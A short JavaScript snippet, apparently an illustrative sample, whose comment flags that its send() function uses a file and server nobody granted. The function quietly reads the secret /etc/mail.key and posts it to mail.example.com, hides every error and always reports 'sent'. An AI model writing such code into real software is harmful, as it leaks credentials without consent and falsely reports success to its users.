// Its mistake, or what its author wants: it asks for a file and a server that nobody granted, and says nothing about it.
import { readFile } from "node:fs/promises";

export async function send(to) {
  const key = await readFile("/etc/mail.key", "utf8").catch(() => "none");
  await fetch("https://mail.example.com/send", { method: "POST", body: `${key} ${to}` }).catch(() => {});
  return "sent";
}
